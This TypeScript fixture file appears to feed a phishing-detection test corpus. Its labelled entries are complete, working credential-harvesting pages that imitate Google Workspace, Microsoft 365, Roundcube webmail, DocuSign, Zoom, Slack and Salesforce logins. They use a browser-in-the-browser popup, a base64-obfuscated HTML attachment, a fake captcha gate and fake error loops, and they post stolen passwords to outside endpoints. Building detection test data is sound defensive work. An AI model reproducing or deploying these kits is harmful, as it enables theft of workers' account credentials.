import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, msSquares, jsRoute, jsonRoute, pngRoute, cssRoute, textRoute } from '../parts/i-parts.js';

// Work-account phishing: Microsoft 365 / Google Workspace / webmail clones and SaaS brand kits.

const msCss = `body{margin:0;font-family:'Segoe UI','Segoe UI Web (West European)',-apple-system,Roboto,'Helvetica Neue',sans-serif;background:#f2f2f2 url(bg.svg) center/cover}.box{width:440px;max-width:calc(100% - 40px);margin:12vh auto 0;background:#fff;box-shadow:0 2px 6px rgba(0,0,0,.2);padding:44px;box-sizing:border-box;min-height:338px}.t{font-size:24px;font-weight:600;color:#1b1b1b;margin:16px 0 12px}input[type=email],input[type=password],input[type=text]{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;outline:none;margin-bottom:16px}.btn{float:right;background:#0067b8;color:#fff;border:0;min-width:108px;padding:6px 12px;font-size:15px}.id{display:inline-block;border:1px solid #ddd;border-radius:14px;padding:2px 10px;font-size:14px;margin-bottom:6px}.lnk{font-size:13px;color:#0067b8;text-decoration:none}.err{color:#e81123;font-size:14px;margin-bottom:8px}.foot{position:fixed;bottom:0;right:0;font-size:12px;padding:8px 14px}.foot a{color:#000;margin-left:14px;text-decoration:none}`;

export const entries: Entry[] = [
  {
  id: 'i-phish-google-workspace-bitb-popup',
  label: 'phishing',
  kind: 'bitb',
  url: 'https://meet-scheduler.teamsync-hub.io/invite/q4-planning-offsite',
  body: doc({
    title: 'Q4 Planning Offsite – RSVP',
    head: `<style>body{margin:0;font-family:'Google Sans',Roboto,Arial;background:#f1f3f4}.hero{max-width:700px;margin:40px auto;background:#fff;border-radius:12px;padding:36px}.g{display:inline-flex;align-items:center;gap:10px;border:1px solid #dadce0;border-radius:4px;padding:10px 18px;background:#fff;cursor:pointer;font-size:15px}.ov{position:fixed;inset:0;background:rgba(0,0,0,.35);display:none}.win{position:absolute;left:50%;top:8%;transform:translateX(-50%);width:480px;background:#fff;border-radius:8px;box-shadow:0 10px 40px rgba(0,0,0,.4);overflow:hidden}.tb{background:#dee1e6;height:34px;display:flex;align-items:center;padding:0 10px;gap:8px;font-size:12px;color:#333}.tb .dots span{display:inline-block;width:12px;height:12px;border-radius:50%;margin-right:6px}.url{background:#fff;border-radius:12px;padding:4px 12px;display:flex;align-items:center;gap:6px;margin:6px 10px;font-size:13px;color:#202124}.url b{color:#188038}.in{padding:36px 40px}.in h1{font-weight:400;font-size:24px;margin:14px 0 6px}input{width:100%;box-sizing:border-box;border:1px solid #dadce0;border-radius:4px;padding:14px;font-size:16px;margin:20px 0}.nx{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 24px;float:right}</style>`,
    body: `<div class="hero">
<h1>📅 Q4 Planning Offsite</h1>
<p>Thursday, December 11 · 9:30 – 16:00 · Hosted by <b>Operations</b></p>
<p>Please confirm your attendance and dietary requirements. Sign in with your company Google account to RSVP and see the agenda.</p>
<button class="g" id="open"><svg width="18" height="18" viewBox="0 0 48 48"><path fill="#EA4335" d="M24 9.5c3.5 0 6.6 1.2 9 3.5l6.7-6.7C35.6 2.4 30.2 0 24 0 14.6 0 6.6 5.4 2.7 13.3l7.8 6C12.4 13.7 17.7 9.5 24 9.5z"/><path fill="#4285F4" d="M46.1 24.5c0-1.6-.1-3.1-.4-4.5H24v9h12.4c-.5 2.9-2.2 5.3-4.6 6.9l7.4 5.7c4.3-4 6.9-9.9 6.9-17.1z"/><path fill="#FBBC05" d="M10.5 28.7c-.5-1.4-.8-3-.8-4.7s.3-3.2.8-4.7l-7.8-6C1 16.6 0 20.2 0 24s1 7.4 2.7 10.7l7.8-6z"/><path fill="#34A853" d="M24 48c6.5 0 11.9-2.1 15.9-5.8l-7.4-5.7c-2.1 1.4-4.8 2.3-8.5 2.3-6.3 0-11.6-4.2-13.5-9.9l-7.8 6C6.6 42.6 14.6 48 24 48z"/></svg>Sign in with Google</button>
</div>
<div class="ov" id="ov"><div class="win" id="win">
 <div class="tb"><span class="dots"><span style="background:#ff5f57"></span><span style="background:#febc2e"></span><span style="background:#28c840"></span></span>Sign in - Google Accounts</div>
 <div class="url">🔒 <b>https://accounts.google.com</b>/v3/signin/identifier?flowName=GlifWebSignIn</div>
 <div class="in" id="in">
  <div style="font-size:22px;color:#5f6368">Google</div>
  <h1>Sign in</h1><div>to continue to Calendar</div>
  <input id="em" type="email" placeholder="Email or phone">
  <a href="#" style="color:#1a73e8;font-size:14px;text-decoration:none">Forgot email?</a><br><br>
  <button class="nx" id="nx">Next</button><div style="clear:both"></div>
 </div>
</div></div>
<script>
var ov=document.getElementById('ov');document.getElementById('open').onclick=function(){ov.style.display='block'};
var win=document.getElementById('win'),dx,dy,drag=false;win.querySelector('.tb').onmousedown=function(e){drag=true;dx=e.clientX-win.offsetLeft;dy=e.clientY-win.offsetTop};
document.onmouseup=function(){drag=false};document.onmousemove=function(e){if(drag){win.style.left=(e.clientX-dx)+'px';win.style.top=(e.clientY-dy)+'px'}};
document.getElementById('nx').onclick=function(){var e=document.getElementById('em').value;if(!e)return;
 document.getElementById('in').innerHTML='<div style="font-size:22px;color:#5f6368">Google</div><h1>Welcome</h1><div style="border:1px solid #dadce0;border-radius:16px;display:inline-block;padding:4px 10px">'+e+'</div><input id="pw" type="password" placeholder="Enter your password"><button class="nx" id="sb">Next</button><div style="clear:both"></div>';
 document.getElementById('sb').onclick=function(){fetch('/invite/rsvp/api',{method:'POST',body:JSON.stringify({e:e,p:document.getElementById('pw').value})}).then(function(){location.href='https://calendar.google.com/'})}};
</script>`,
  }),
  routes: { 'meet-scheduler.teamsync-hub.io/invite/rsvp/api': jsonRoute({ ok: 1 }) },
},
  {
  id: 'i-phish-webmail-cpanel-quota-generic',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://mail-quota-upgrade.web-hosting-notice.com/roundcube/?_task=login&email=info@stahlbau-riegler.at',
  body: doc({
    title: 'Webmail :: Mailbox Storage Full',
    head: `<style>body{margin:0;background:#e8ecef;font-family:'Open Sans',Arial,sans-serif}.lb{width:380px;margin:70px auto;background:#fff;border-radius:4px;box-shadow:0 0 12px rgba(0,0,0,.15);padding:30px}.logo{text-align:center;font-size:26px;color:#37beff;font-weight:bold}.logo span{color:#2c363a}.bar{height:14px;background:#eee;border-radius:7px;overflow:hidden;margin:10px 0}.bar div{height:100%;width:98%;background:#e74c3c}input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #ccd;margin:6px 0 12px}button{width:100%;background:#37beff;border:0;color:#fff;padding:11px;font-size:15px}.d{font-size:13px;color:#555}</style>`,
    body: `<div class="lb">
<div class="logo">round<span>cube</span> <small style="font-size:12px;color:#999">webmail</small></div>
<p class="d"><b>Mailbox storage: 4.93 GB / 5 GB (98%)</b></p><div class="bar"><div></div></div>
<p class="d">Your mailbox has exceeded its storage limit. Incoming messages for <b id="who"></b> are being held on the server and will be deleted after 48 hours. Log in to upgrade your quota free of charge.</p>
<form id="lf" method="post" action="https://submit-form.com/qK0b7aWx">
<input type="email" name="email" id="em" placeholder="Email address" required>
<input type="password" name="password" placeholder="Password" required>
<input type="hidden" name="domain" id="dm">
<button>Login &amp; Upgrade</button>
</form>
<p class="d" style="text-align:center">Powered by cPanel, L.L.C. · <span id="host"></span></p>
</div>
<script>
var e=new URLSearchParams(location.search).get('email')||'';document.getElementById('em').value=e;document.getElementById('who').textContent=e||'your address';
var d=e.split('@')[1]||'';document.getElementById('dm').value=d;document.getElementById('host').textContent=d?('mail.'+d):'';
if(d){document.title=d+' :: Webmail';document.querySelector('.logo').innerHTML=d.split('.')[0].toUpperCase()+' <small style="font-size:12px;color:#999">webmail</small>'}
</script>`,
  }),
},
  {
  id: 'i-phish-m365-html-attachment-remittance',
  label: 'phishing',
  kind: 'html-attachment',
  url: 'https://secure-mailview.attachments-cdn.net/f/REMITTANCE_ADVICE_ACH-09221.htm',
  body: `<html><head><meta charset="utf-8"><title>Remittance Advice</title></head><body>
<script>
var _e='${Buffer.from('myra.kovacs@transalpine-logistics.com').toString('base64')}';
var _p=['${Buffer.from('<style>body{margin:0;font-family:Segoe UI,sans-serif;background:#f3f2f1}.b{width:420px;margin:10vh auto;background:#fff;padding:40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;margin:10px 0}button{background:#0067b8;color:#fff;border:0;padding:8px 30px;float:right}</style>').toString('base64')}',
'${Buffer.from('<div class="b"><div style="font-weight:600;color:#737373">Microsoft</div><h2 style="font-weight:600">Excel Online</h2><p>This document is protected. Confirm your email password to view <b>ACH_Remittance_09221.xlsx</b>.</p><div id="u" style="border:1px solid #ddd;border-radius:14px;display:inline-block;padding:2px 10px"></div><input id="pw" type="password" placeholder="Password"><div id="msg" style="color:#e81123;font-size:13px"></div><button id="sub">Sign in</button><div style="clear:both"></div></div>').toString('base64')}'];
document.write(atob(_p[0])+atob(_p[1]));
var em=atob(_e);document.getElementById('u').textContent=em;var c=0;
document.getElementById('sub').onclick=function(){var p=document.getElementById('pw').value;if(!p)return;
 var x=new XMLHttpRequest();x.open('POST','https://secure-mailview.attachments-cdn.net/f/next.php');x.setRequestHeader('Content-type','application/x-www-form-urlencoded');x.send('ai='+encodeURIComponent(em)+'&pr='+encodeURIComponent(p));
 if(++c<3){document.getElementById('msg').textContent='Your account or password is incorrect.';document.getElementById('pw').value=''}else{location.href='https://www.office.com/'}};
</script></body></html>`,
  routes: { 'secure-mailview.attachments-cdn.net/f/next.php': jsonRoute({ signal: 'ok' }) },
},
  {
  id: 'i-phish-outlook-voicemail-lure-chain',
  label: 'phishing',
  kind: 'voicemail-lure',
  url: 'https://t.mailtrack-notify.com/r/9f2b1?u=aGVscGRlc2tAbW9ycmlzb24tZGVudGFsLmNvbQ',
  routes: {
    't.mailtrack-notify.com/r/9f2b1': redirectRoute(302, 'https://cdn.voicemsg-portal.app/vm/play.html?m=aGVscGRlc2tAbW9ycmlzb24tZGVudGFsLmNvbQ'),
    'cdn.voicemsg-portal.app/vm/play.html': htmlRoute(doc({
      title: 'New Voice Message (00:47)',
      head: `<style>body{margin:0;font-family:'Segoe UI',sans-serif;background:#f3f2f1}.vm{width:420px;margin:60px auto;background:#fff;padding:30px;border-radius:6px;box-shadow:0 2px 8px #0002}.wave{height:44px;background:repeating-linear-gradient(90deg,#0078d4 0 3px,transparent 3px 7px);opacity:.6;margin:16px 0;border-radius:4px}.pl{background:#0078d4;color:#fff;border:0;border-radius:50%;width:48px;height:48px;font-size:20px}.m{font-size:13px;color:#605e5c}.ovl{display:none}.ovl input{width:100%;box-sizing:border-box;padding:9px;margin:8px 0;border:1px solid #8a8886}.ovl button{background:#0078d4;color:#fff;border:0;padding:8px 24px}</style>`,
      body: `<div class="vm">
<div>${msSquares}</div>
<h3>You have a new voice message</h3>
<div class="m">From: +1 (312) 555-0148 · Received: Today 08:14 · Duration 00:47</div>
<div class="wave"></div>
<button class="pl" id="pl">▶</button> <span class="m">Click play to listen</span>
<div class="ovl" id="ovl"><p class="m">For security, sign in with your Microsoft 365 account to play this message.</p><input id="e" type="email"><input id="p" type="password" placeholder="Password"><button id="s">Sign in</button><p id="er" style="color:#a4262c;font-size:13px"></p></div>
</div>
<script>
var m=new URLSearchParams(location.search).get('m');try{document.getElementById('e').value=atob(m)}catch(x){}
document.getElementById('pl').onclick=function(){document.getElementById('ovl').style.display='block'};
document.getElementById('s').onclick=function(){fetch('https://vm-relay.workers-api.dev/c',{method:'POST',body:JSON.stringify({u:document.getElementById('e').value,p:document.getElementById('p').value})}).catch(function(){});document.getElementById('er').textContent='Unable to play message. Please try again later.'};
</script>`,
    })),
  },
},
  {
  id: 'i-phish-m365-fake-captcha-gate',
  label: 'phishing',
  kind: 'm365-kit',
  url: 'https://portal-doc-review.pages-share.dev/?id=7781-AP',
  body: doc({
    title: 'Verify you are human',
    head: `<style>body{margin:0;font-family:-apple-system,system-ui,'Segoe UI',sans-serif;background:#fff}.cf{max-width:640px;margin:15vh auto;padding:0 20px}.cf h1{font-weight:500;font-size:32px}.chk{display:flex;align-items:center;gap:14px;border:1px solid #e0e0e0;background:#fafafa;width:300px;padding:18px;border-radius:4px}.chk input{width:24px;height:24px}.ray{font-size:12px;color:#777;margin-top:40px}</style>`,
    body: `<div class="cf" id="cf">
<h1>portal-doc-review.pages-share.dev</h1>
<p>Verify you are human by completing the action below.</p>
<label class="chk"><input type="checkbox" id="hv"> Verify you are human</label>
<p>portal-doc-review.pages-share.dev needs to review the security of your connection before proceeding.</p>
<div class="ray">Ray ID: <span id="ray"></span> · Performance &amp; security by Cloudflare</div>
</div>
<script>
document.getElementById('ray').textContent=Math.random().toString(16).slice(2,18);
document.getElementById('hv').onchange=function(){setTimeout(function(){
 fetch('/gate/k.json').then(function(r){return r.json()}).then(function(j){
  document.open();document.write(atob(j.p));document.close();
 })},1200)};
</script>`,
  }),
  routes: {
    'portal-doc-review.pages-share.dev/gate/k.json': jsonRoute({
      p: Buffer.from(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Sign in to your account</title><style>${msCss}</style></head><body><div class="box">${msSquares}<div class="t">Sign in</div><p style="font-size:14px">to view <b>AP_Statement_7781.pdf</b> shared via OneDrive</p><form method="post" action="/gate/sub"><input type="email" name="loginfmt" placeholder="Email, phone, or Skype" required><input type="password" name="passwd" placeholder="Password" required><a class="lnk" href="#">Forgot my password</a><br><br><button class="btn">Sign in</button></form></div><div class="foot"><a href="#">Terms of use</a><a href="#">Privacy &amp; cookies</a></div></body></html>`).toString('base64'),
    }),
  },
},
  {
  id: 'i-phish-docusign-envelope-review',
  label: 'phishing',
  kind: 'saas-kit',
  url: 'https://docusign.envelope-review-services.com/Signing/?ti=8b3e41c0d8a94e6f&a=contracts',
  body: doc({
    title: 'DocuSign',
    head: `<style>body{margin:0;font-family:'Maven Pro',Helvetica,Arial,sans-serif;background:#f4f4f4}.hd{background:#fff;padding:12px 24px;border-bottom:1px solid #ddd;font-weight:bold;font-size:20px}.hd span{color:#ffcc22}.env{max-width:560px;margin:40px auto;background:#fff;border:1px solid #ddd}.env .top{background:#1e4ca1;color:#fff;padding:30px;text-align:center}.env .top button{background:#ffc820;border:0;padding:10px 22px;font-weight:bold;margin-top:12px}.env .bd{padding:24px;font-size:14px;color:#333}.md{position:fixed;inset:0;background:#0007;display:none;align-items:center;justify-content:center}.md .in{background:#fff;width:380px;padding:26px;border-radius:4px}.md input{width:100%;box-sizing:border-box;padding:10px;margin:6px 0 12px;border:1px solid #aaa}.md .pr{display:flex;gap:8px;margin-bottom:10px}.md .pr button{flex:1;padding:8px;border:1px solid #ccc;background:#fff}.go{background:#1e4ca1;color:#fff;border:0;padding:10px;width:100%}</style>`,
    body: `<div class="hd">Docu<span>Sign</span></div>
<div class="env">
<div class="top"><div style="font-size:40px">📄</div><p>Paulina Ward sent you a document to review and sign.</p><button id="rv">REVIEW DOCUMENT</button></div>
<div class="bd"><b>Paulina Ward</b><br>Contracts Administration<br><br>Please review and sign: <i>Amended Services Agreement – FY2026.pdf</i><br><br>Thank you,<br>Paulina<hr><small>Do Not Share This Email. This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.</small></div>
</div>
<div class="md" id="md"><div class="in">
 <b>Select your email provider to continue</b><br><br>
 <div class="pr"><button>Outlook</button><button>Office 365</button><button>Gmail</button></div><div class="pr"><button>Yahoo</button><button>AOL</button><button>Other Mail</button></div>
 <form id="f"><input type="email" name="em" placeholder="Email address" required><input type="password" name="pw" placeholder="Email password" required><button class="go">View Document</button></form>
 <p id="m" style="color:#c00;font-size:13px"></p>
</div></div>
<script>
var md=document.getElementById('md');document.getElementById('rv').onclick=function(){md.style.display='flex'};
[].forEach.call(document.querySelectorAll('.pr button'),function(b){b.onclick=function(){[].forEach.call(document.querySelectorAll('.pr button'),function(x){x.style.borderColor='#ccc'});b.style.borderColor='#1e4ca1'}});
var n=0;document.getElementById('f').onsubmit=function(e){e.preventDefault();var fd=new FormData(this);fd.append('prov',document.title);
 fetch('mailer/send.php',{method:'POST',body:fd});if(++n<2){document.getElementById('m').textContent='Login failed. Please verify your information and try again.';this.pw.value=''}else{location='https://www.docusign.com/'}};
</script>`,
  }),
  routes: { 'docusign.envelope-review-services.com/Signing/mailer/send.php': textRoute('1', 'text/plain') },
},
  {
  id: 'i-phish-zoom-meeting-signin-required',
  label: 'phishing',
  kind: 'saas-kit',
  url: 'https://zoom.us.j-8429910331.meeting-join.live/wc/join/8429910331?pwd=Rk9wN3',
  body: doc({
    title: 'Zoom Meeting',
    head: `<style>body{margin:0;font-family:Lato,'Segoe UI',Arial;background:#fff}.z{padding:14px 30px;color:#0b5cff;font-size:26px;font-weight:900;border-bottom:1px solid #eee}.c{max-width:420px;margin:60px auto;text-align:center}.c h2{font-weight:600}input{width:100%;box-sizing:border-box;padding:12px;border:1px solid #bbb;border-radius:8px;margin:6px 0;font-size:15px}.b{width:100%;background:#0b5cff;color:#fff;border:0;border-radius:8px;padding:12px;margin-top:10px;font-size:16px}.s{color:#666;font-size:13px}.sso{display:flex;gap:8px;justify-content:center;margin-top:14px}.sso span{border:1px solid #ddd;border-radius:8px;padding:8px 14px;font-size:13px}</style>`,
    body: `<div class="z">zoom</div>
<div class="c">
<h2>Join Meeting</h2>
<p class="s">Meeting ID: 842 9910 3317 · Host: <b>HR Department</b><br>Topic: <b>2026 Compensation Review – Mandatory</b></p>
<p class="s">This meeting requires authentication. Sign in to join.</p>
<form id="z"><input type="email" name="email" placeholder="Email Address" required><input type="password" name="password" placeholder="Password" required><button class="b">Sign In &amp; Join</button></form>
<p class="s">or sign in with</p><div class="sso"><span>SSO</span><span>Google</span><span>Microsoft</span><span>Apple</span></div>
<p class="s" style="margin-top:30px">©2025 Zoom Communications, Inc. All rights reserved. <a href="#">Privacy &amp; Legal Policies</a></p>
</div>
<script>document.getElementById('z').onsubmit=function(e){e.preventDefault();var d=new URLSearchParams(new FormData(this));d.set('mid',location.pathname.split('/').pop());
fetch('/wc/auth',{method:'POST',body:d}).then(function(){document.querySelector('.c').innerHTML='<h2>Connecting…</h2><p class="s">The host has not started this meeting yet. Please wait.</p>'})}</script>`,
  }),
  routes: { 'zoom.us.j-8429910331.meeting-join.live/wc/auth': jsonRoute({ status: 'waiting' }) },
},
  {
  id: 'i-phish-slack-workspace-sso-clone',
  label: 'phishing',
  kind: 'saas-kit',
  url: 'https://northwind-eng.slack-sso-auth.com/sso/saml/start?redir=%2Farchives%2FC04T2',
  body: doc({
    title: 'Sign in to Northwind Engineering | Slack',
    head: `<style>body{margin:0;font-family:Slack-Lato,Lato,'Helvetica Neue',Arial;background:#fff;color:#1d1c1d}.top{text-align:center;padding:28px;font-weight:900;font-size:30px}.top b{color:#4a154b}.m{max-width:400px;margin:10px auto;text-align:center}.m h1{font-size:44px;letter-spacing:-.75px;margin:10px 0}.m p{color:#454245}input{width:100%;box-sizing:border-box;height:44px;border:1px solid #868686;border-radius:4px;padding:0 12px;font-size:17px;margin-bottom:16px}.btn{width:100%;height:44px;background:#4a154b;color:#fff;border:0;border-radius:4px;font-size:17px;font-weight:700}</style>`,
    body: `<div class="top"><b>#</b> slack</div>
<div class="m">
<h1>Sign in to Northwind Engineering</h1>
<p>northwind-eng.slack.com</p>
<p>Your workspace administrator requires you to re-authenticate after the SSO certificate rotation.</p>
<form method="POST" action="/sso/saml/acs"><input type="email" name="email" placeholder="name@work-email.com" required><input type="password" name="password" placeholder="Password" required><button class="btn">Sign In</button></form>
<p style="font-size:13px">Trouble signing in? <a href="#">Contact your workspace owner</a></p>
</div>`,
  }),
  routes: { 'northwind-eng.slack-sso-auth.com/sso/saml/acs': redirectRoute(302, 'https://slack.com/') },
},
  {
  id: 'i-phish-salesforce-community-login',
  label: 'phishing',
  kind: 'saas-kit',
  url: 'https://login-salesforce.my-org-verify.cc/?startURL=%2Fhome%2Fhome.jsp&un=',
  body: doc({
    title: 'Login | Salesforce',
    head: `<style>body{margin:0;font-family:'Salesforce Sans',Arial,sans-serif;background:#f3f2f2}.w{width:380px;margin:60px auto}.lg{text-align:center;margin-bottom:20px}.lg span{display:inline-block;background:#00a1e0;color:#fff;border-radius:30px;padding:16px 22px;font-weight:bold;font-size:18px}.card{background:#fff;border:1px solid #d8dde6;border-radius:4px;padding:20px}label{font-size:13px;color:#54698d}input[type=text],input[type=password]{width:100%;box-sizing:border-box;padding:12px;border:1px solid #d8dde6;border-radius:4px;margin:6px 0 14px}.b{width:100%;background:#0070d2;color:#fff;border:0;border-radius:4px;padding:12px;font-size:15px}.ft{text-align:center;font-size:12px;color:#54698d;margin-top:20px}</style>`,
    body: `<div class="w"><div class="lg"><span>salesforce</span></div>
<div class="card">
<form id="lf" onsubmit="return sf(event)">
<label>Username</label><input type="text" id="username" name="un">
<label>Password</label><input type="password" id="password" name="pw">
<button class="b">Log In</button><br><br>
<label><input type="checkbox"> Remember me</label>
<p style="font-size:13px"><a href="#">Forgot Your Password?</a> · <a href="#">Use Custom Domain</a></p>
</form></div>
<div class="ft">© 2025 Salesforce, Inc. All rights reserved. | Privacy</div></div>
<script>
var q=new URLSearchParams(location.search);if(q.get('un'))document.getElementById('username').value=q.get('un');
function sf(e){e.preventDefault();var b={u:username.value,p:password.value,ref:document.referrer,t:Date.now()};
fetch('/services/oauth2/tk',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(b)}).then(function(r){return r.json()}).then(function(j){location.href=j.next})}
</script>`,
  }),
  routes: { 'login-salesforce.my-org-verify.cc/services/oauth2/tk': jsonRoute({ next: 'https://login.salesforce.com/' }) },
},
];
